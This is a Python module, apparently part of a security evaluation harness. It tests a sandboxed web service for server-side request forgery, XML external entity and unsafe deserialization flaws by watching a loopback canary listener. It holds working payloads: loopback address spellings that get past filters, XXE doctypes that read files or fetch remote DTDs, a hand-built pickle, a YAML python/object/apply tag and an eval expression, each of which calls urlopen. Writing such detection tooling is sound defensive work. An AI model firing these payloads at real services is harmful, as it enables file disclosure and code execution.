"""Texts that make the service call somewhere: addresses, XML entities, serialized objects.

The sandbox has no network; the gate listens on two ports of its loopback that
nobody has a reason to connect to.
"""

from __future__ import annotations

import asyncio
import base64
import re
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace

from evaluators.contract.shapes import Facets
from evaluators.probes.injection_output import Shown
from evaluators.probes.injection_pass import READS, Maker, asked, one, readers, seen_in, sprayed
from evaluators.probes.injection_places import BODY, FILE, HEADER, PATH, QUERY, RAW, Entry, entries
from evaluators.probes.world import Play, World
from evaluators.rule import Flaw
from evaluators.service.boot import PLANTED
from evaluators.service.encodings import Upload, is_xml
from evaluators.service.request import Request
from evaluators.service.sandbox import SandboxError
from evaluators.service.step import Step

ARRIVES = 0.12
"""Seconds that a call may be under way after the answer."""
SPELLINGS = (
    "http://localhost:{0}/{1}",
    "https://127.0.0.1:{0}/{1}",
    "http://127.1:{0}/{1}",
    "http://2130706433:{0}/{1}",
    "http://0.0.0.0:{0}/{1}",
    "http://[::1]:{0}/{1}",
    "http://[::ffff:127.0.0.1]:{0}/{1}",
    "http://example.com@127.0.0.1:{0}/{1}",
    "https://localhost:{0}/{1}",
)
MOST_OWN = 3
MOST_LATER = 10
"""Requests that may lead to a call of an address that was stored."""
PAGED = re.compile(r"[\w+/=-]{12,}")


def _port(world: World) -> int:
    """The canary's port; 0 where it does not listen."""
    try:
        return world.running.process.canary.port
    except SandboxError:
        return 0


def _address(world: World) -> Maker:
    port = _port(world)
    return lambda entry, number: f"http://127.0.0.1:{port}/bw{number}-"


async def _came(world: World, mark: int, seconds: float = ARRIVES) -> list[str]:
    """Who came since: the paths of the calls, `?` for what is no HTTP."""
    await asyncio.sleep(seconds)
    await world.running.process.look()
    return [hit.path or "?" for hit in world.running.process.canary.hits(mark)]


async def addresses(world: World) -> AsyncIterator[Shown]:
    """Places whose text is an address that the service calls."""
    if not _port(world):
        return
    canary = world.running.process.canary
    done: set[str] = set()
    mark = canary.mark()
    tried = await sprayed(world, "address", _address(world), blind=True, only=lambda e: e.where != RAW)
    came = await _came(world, mark)
    for each in tried:
        symbol = each.play.operation.symbol
        for entry, text in each.texts.items():
            if symbol not in done and any(path.startswith("/" + text.rpartition("/")[2]) for path in came):
                done.add(symbol)
                yield Shown(entry, each.steps[:1], "calls an address of the sender's inside of its own network")
    for entry in entries(world, QUERY, BODY, HEADER):
        if entry.play.operation.symbol in done or not entry.is_link:
            continue
        found = await _spelled(world, entry)
        if found is not None:
            done.add(entry.play.operation.symbol)
            yield found
    await world.settled()


async def _spelled(world: World, entry: Entry) -> Shown | None:
    """Loopback in other words, and the same after other requests have been sent."""
    canary = world.running.process.canary
    accepted = 0
    for text in ("http://127.0.0.1:{0}/{1}", *SPELLINGS):
        address = text.format(canary.port, "bw")
        mark = canary.mark()
        async with world.scene() as scene:
            step = await scene.send(entry.with_(address))
            if await _came(world, mark, 0.03):
                return Shown(
                    entry, (step,), "calls an address of the sender's inside of its own network", _spoken(text)
                )
            if not (step.ok and step.changes):
                continue
            accepted += 1
            for request in _later(world, entry.play, step, wide=accepted < 2):
                then = await scene.send(request)
                if await _came(world, mark, 0.03):
                    what = "calls an address inside of its own network that was stored before"
                    return Shown(entry, (step, then), what, _spoken(text))
    return None


def _spoken(text: str) -> str:
    return f"the gate's listener was called by `{text.format('$CANARY_PORT', '...')}`"


def _later(world: World, play: Play, step: Step, *, wide: bool) -> Iterator[Request]:
    """Requests about the same row; where `wide` other writes that work, too: one may be what the address waits for."""
    own = readers(world, play, step)
    yield from own[:MOST_OWN]
    if not wide:
        return
    known = {request.symbol for request in own[:MOST_OWN]} | {play.operation.symbol}
    count = 0
    for symbol, other in sorted(world.plays.items()):
        if symbol not in known and other.operation.method not in (*READS, "DELETE") and count < MOST_LATER:
            count += 1
            yield other.request


def shown_without_port(world: World, flaw: Flaw) -> Flaw:
    """The same without the listener's port, which is another one each time."""
    port = str(_port(world))
    evidence, shell = flaw.evidence.replace(port, "<port>"), flaw.reproduce.replace(port, "'\"$CANARY_PORT\"'")
    return replace(flaw, message=flaw.message.replace(port, "<port>"), evidence=evidence, reproduce=shell)


DOCTYPES = (
    '<!DOCTYPE bw [<!ENTITY bw SYSTEM "file://{path}">]>',
    '<!DOCTYPE bw [<!ENTITY bw SYSTEM "http://127.0.0.1:{port}/bwx">]>',
    '<!DOCTYPE bw SYSTEM "http://127.0.0.1:{port}/bwx.dtd">',
    '<!DOCTYPE bw [<!ENTITY % bw SYSTEM "http://127.0.0.1:{port}/bwx.dtd"> %bw;]>',
)


def xml_bodies(world: World) -> list[tuple[Play, str]]:
    """Working requests whose body is XML, also as a file of a form."""
    found: list[tuple[Play, str]] = []
    for _, play in sorted(world.plays.items()):
        body = play.request.body
        if isinstance(body, bytes):
            body = body.decode("utf-8", "replace")
        if isinstance(body, str) and (is_xml(play.request.media) or body.lstrip().startswith("<")):
            found.append((play, body))
    return found


def _declared(body: str, doctype: str, word: str = "&bw;") -> list[str]:
    """The document with a declaration and a reference in its texts and at its end."""
    head = re.match(r"\s*(<\?xml[^>]*\?>)?\s*", body)
    rest = body[head.end() if head else 0 :]
    rest = re.sub(r"<([\w:.-]+)([^<>]*)/>\s*$", r"<\1\2></\1>", rest) if "</" not in rest else rest
    in_text = re.sub(r">[^<>]*\w[^<>]*</", f">{word}</", rest)
    return [f"{doctype}{in_text}", f"{doctype}{re.sub(r'(</[^<>]+>)(?=[^<]*$)', lambda m: word + m.group(), rest)}"]


async def entities(world: World) -> AsyncIterator[Shown]:
    """XML whose entities lead to a file or to an address."""
    planted = world.running.process.confined.planted.get(PLANTED, "").strip()
    port = _port(world)
    for play, body in xml_bodies(world):
        found: Shown | None = None
        for doctype in DOCTYPES:
            for document in dict.fromkeys(_declared(body, doctype.format(path=PLANTED, port=port))):
                found = found or await _entity(world, play, document, planted)
        found = found or await _missed(world, play, body)
        if found is not None:
            yield found
    await world.settled()


async def _entity(world: World, play: Play, document: str, planted: str) -> Shown | None:
    entry = Entry(play, RAW, (), Facets(), document)
    mark = world.running.process.canary.mark() if _port(world) else 0
    tried = await one(world, play, {entry: document}, after=True)
    at = seen_in(tried.steps, planted) if planted else None
    if at is not None:
        return Shown(entry, tried.steps[: at + 1], "answers a file that an entity names")
    if _port(world) and await _came(world, mark, 0.03):
        return Shown(entry, tried.steps[:1], "calls an address that an entity names")
    return None


async def _missed(world: World, play: Play, body: str) -> Shown | None:
    """Whether a file that an entity names is looked for: one that is there is accepted, one that is not is refused."""
    there, nowhere = (_declared(body, DOCTYPES[0].format(path=path)) for path in (PLANTED, f"{PLANTED}-of-nobody"))
    for good, bad in zip(there, nowhere, strict=True):
        steps = [(await one(world, play, {Entry(play, RAW, (), Facets(), text): text})).steps[0]
                 for text in (good, bad, good, bad)]  # fmt: skip
        if all(step.ok for step in steps[::2]) and not any(step.ok for step in steps[1::2]):
            return Shown(Entry(play, RAW, (), Facets(), bad), tuple(steps[:2]), "looks for a file that an entity names")
    return None


def payloads(port: int) -> dict[str, bytes]:
    """Objects that call the listener when they are loaded: (format -> text). They do nothing else."""
    address = f"http://127.0.0.1:{port}/bwd"
    pickled = _pickled(address)
    while len(pickled) % 3:
        # Without a remainder base64 needs no padding, which some services do not take.
        address += "d"
        pickled = _pickled(address)
    yaml = f'!!python/object/apply:urllib.request.urlopen ["{address}"]\n'
    python = f"__import__('urllib.request').request.urlopen('{address}')"
    return {
        "a pickle": pickled,
        "a pickle in base64": base64.urlsafe_b64encode(pickled),
        "YAML with tags of Python": yaml.encode(),
        "an expression of Python": python.encode(),
    }


def _pickled(address: str) -> bytes:
    return b"curllib.request\nurlopen\n(V" + address.encode() + b"\ntR."


async def objects(world: World) -> AsyncIterator[Shown]:
    """Places whose text is loaded as an object, or evaluated."""
    port = _port(world)
    if not port:
        return
    canary, done = world.running.process.canary, set[str]()
    for name, raw in payloads(port).items():
        for entry in entries(world, QUERY, BODY, FILE, RAW, PATH):
            symbol = entry.play.operation.symbol
            if symbol in done or not _may_load(entry, name):
                continue
            mark = canary.mark()
            text = raw.decode("latin-1")
            request = _file(entry, raw) if entry.where == FILE else entry.with_(text) if entry.where != RAW else None
            if entry.where == RAW:
                request = entry.play.request.with_body(raw)
            if request is None or (entry.where not in (FILE, RAW) and not entry.fits(text)):
                continue
            step = await asked(world, request)
            if step.ok and step.request.operation.method not in READS:
                await world.settled()
            if await _came(world, mark, 0.01):
                done.add(symbol)
                yield Shown(entry, (step,), f"{name} is loaded, and what it says is carried out")
    await world.settled()


def _may_load(entry: Entry, name: str) -> bool:
    """Where an object can be: whole bodies and files, and texts that are opaque or free."""
    if entry.where in (FILE, RAW):
        return name != "a pickle in base64"
    if entry.kind.enum or entry.where == PATH:
        return False
    if name == "a pickle":
        return False
    return entry.where == QUERY or name != "a pickle in base64" or bool(PAGED.fullmatch(entry.value))


def _file(entry: Entry, raw: bytes) -> Request:
    held = entry.play.request.body.get(entry.place[0])
    first = held[0] if isinstance(held, list) else held
    named = replace(first, content=raw) if isinstance(first, Upload) else Upload("example.bin", raw)
    return entry.play.request.having(entry.place, [named] if isinstance(held, list) else named)
